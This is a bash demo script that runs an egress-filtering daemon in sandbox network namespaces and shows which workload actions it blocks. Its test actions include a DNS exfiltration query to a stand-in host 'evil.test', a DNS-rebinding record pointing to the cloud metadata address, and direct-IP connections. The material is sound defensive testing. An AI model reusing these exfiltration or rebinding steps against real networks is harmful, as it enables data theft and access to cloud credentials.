#!/bin/bash
# The demo behind "./egress demo": egressd in a throwaway sandbox
# namespace, a fake internet in another (documentation addresses, no
# uplink), and a few workload actions with what egressd made of them.
EGRESSD_BIN="$1"
NS_ID="demo$$"
. "$(dirname "$0")/../tests/netns/nslib.sh"

say() { printf '  %-44s %s\n' "$1" "$2"; }

ns_up
mkdir -p "$TMP/always"
ns_dns --address=/api.allowed.test/203.0.113.10 --address=/evil.test/203.0.113.20 \
	--host-record=rebind.allowed.test,169.254.169.254
ns_tcp_server 203.0.113.10 443
ns_tcp_server 203.0.113.20 443
ns_wait_listen "$WAN" '203.0.113.20:443'
policy='{"defaultAction":"deny","egress":[{"action":"allow","target":"api.allowed.test"},{"action":"allow","target":"rebind.allowed.test"}]}'
ns_egressd OPENSANDBOX_EGRESS_RULES="$policy"

echo "egressd demo: the sandbox may reach api.allowed.test and rebind.allowed.test; all else is denied."
echo "(workload = uid 1000 without capabilities; internet = a namespace with 203.0.113.0/24 hosts)"
echo

a=$(ws dig +short +time=3 +tries=1 @203.0.113.53 api.allowed.test A 2>&1 | head -1)
say "DNS  api.allowed.test" "-> ${a:-no answer}  (allowed; learned by nft before the answer)"
r=$(ws dig +time=3 +tries=1 @203.0.113.53 exfil-data.evil.test A 2>&1 | grep -o 'status: [A-Z]*')
if grep -q exfil-data "$TMP/dns.log"; then up="the upstream saw the query!"; else up="the upstream saw nothing"; fi
say "DNS  exfil-data.evil.test" "-> ${r#status: }  (denied locally; $up)"
r=$(ws dig +short +time=3 +tries=1 @203.0.113.53 rebind.allowed.test A 2>&1)
say "DNS  rebind.allowed.test (answers 169.254.169.254)" "-> ${r:-empty answer}  (metadata address removed)"
if wconnect 203.0.113.10 443; then c="connected"; else c="refused"; fi
say "TCP  api.allowed.test:443" "-> $c"
if wconnect 203.0.113.20 443; then c="connected (LEAK)"; else c="refused (reset by nft: direct IP, never resolved)"; fi
say "TCP  203.0.113.20:443 (direct IP)" "-> $c"
if wconnect 203.0.113.10 22; then c="connected (LEAK)"; else c="refused (port not allowed)"; fi
say "TCP  203.0.113.10:22" "-> $c"
out=$(api PATCH /policy '[{"action":"allow","target":"evil.test"}]' | tail -1)
say "API  PATCH /policy allow evil.test" "-> HTTP $out (applied to nft before the answer)"
a=$(ws dig +short +time=3 +tries=1 @203.0.113.53 evil.test A 2>&1 | head -1)
if wconnect 203.0.113.20 443; then c="connected"; else c="refused"; fi
say "DNS+TCP evil.test:443 after the PATCH" "-> ${a:-no answer}, $c"
echo
echo "audit log (JSON lines), last events:"
grep -E '"event":"(dns_deny|dns_filter|learn|policy_apply)"' "$TMP/egressd.log" | tail -n 6 | cut -c1-160 | sed 's/^/  /'
